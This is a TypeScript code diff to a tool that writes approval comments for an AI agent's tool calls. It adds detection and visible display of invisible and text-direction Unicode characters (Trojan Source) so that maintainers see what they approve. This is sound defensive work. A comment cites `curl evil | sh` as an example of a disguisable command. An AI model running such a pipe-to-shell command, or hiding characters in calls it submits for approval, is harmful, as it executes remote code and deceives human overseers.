@@ -32,6 +32,23 @@ export interface ApprovalCommentInput {
 
 const MAX_BLOCK = 4000;
 
+/**
+ * Characters that change how text looks without being seen: direction overrides and isolates
+ * (Trojan Source: `curl evil | sh` can read as something else), zero-width and invisible ones, the
+ * soft hyphen. A maintainer approves what the comment shows, so each is shown as `⟪U+202E⟫`.
+ */
+const HIDDEN_CHARS = /[\u00AD\u061C\u180E\u200B-\u200F\u202A-\u202E\u2060-\u2064\u2066-\u2069\uFEFF]/g;
+
+/** Pure: the text with every hidden character made visible, and how many there were. */
+function revealHidden(text: string): { text: string; count: number } {
+  let count = 0;
+  const shown = text.replace(HIDDEN_CHARS, (c) => {
+    count++;
+    return `⟪U+${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}⟫`;
+  });
+  return { text: shown, count };
+}
+
 /** A fence longer than any backtick run inside, so model-written text cannot close it early. */
 function fenced(lang: string, body: string): string {
   const text = body.length > MAX_BLOCK ? `${body.slice(0, MAX_BLOCK)}\n… (${body.length - MAX_BLOCK} more characters)` : body;
@@ -64,6 +81,12 @@ function describeDuration(ms: number): string {
 
 function renderCall(p: PendingApproval, n: number, workspace?: string): string {
   const lines: string[] = [];
+  let hidden = 0;
+  const reveal = (t: string) => {
+    const r = revealHidden(t);
+    hidden += r.count;
+    return r.text;
+  };
   if (p.question) {
     // The model's words: inert (no mentions, no markers) like everything else it publishes.
     lines.push(`**${n}. The agent asks:**`, '', ...makeInert(p.question.question).split('\n').map((l) => `> ${l}`));
@@ -72,17 +95,19 @@ function renderCall(p: PendingApproval, n: number, workspace?: string): string {
     }
     return lines.join('\n');
   }
-  lines.push(`**${n}. ${code(p.name)}**: ${makeInertLine(p.title)}`);
+  lines.push(`**${n}. ${code(p.name)}**: ${makeInertLine(reveal(p.title))}`);
   const command = typeof p.args.command === 'string' ? p.args.command : undefined;
   if (command !== undefined) {
-    lines.push('', fenced('sh', command));
-    if (typeof p.args.dir_path === 'string') lines.push(`in ${code(p.args.dir_path)}`);
+    lines.push('', fenced('sh', reveal(command)));
+    if (typeof p.args.dir_path === 'string') lines.push(`in ${code(reveal(p.args.dir_path))}`);
   } else if (p.preview) {
-    lines.push('', fenced('diff', p.preview));
+    lines.push('', fenced('diff', reveal(p.preview)));
   } else {
-    lines.push('', fenced('json', JSON.stringify(p.args, null, 2)));
+    lines.push('', fenced('json', reveal(JSON.stringify(p.args, null, 2))));
   }
-  if (typeof p.args.description === 'string' && p.args.description) lines.push('', `Why: ${p.args.description}`);
+  // The model's words, on one line: no mention, no marker, no HTML that folds away what follows.
+  if (typeof p.args.description === 'string' && p.args.description) lines.push('', `Why: ${makeInertLine(reveal(p.args.description)).replace(/</g, '&lt;')}`);
+  if (hidden > 0) lines.push('', `⚠️ This call contains ${hidden} invisible or text-direction character${hidden === 1 ? '' : 's'}, shown above as ⟪U+…⟫: they change how the text looks, not what runs.`);
   lines.push('', p.rule ? `Asked by ${describeRule(p.rule, workspace)}.` : 'No rule allowed it outright.');
   return lines.join('\n');
 }
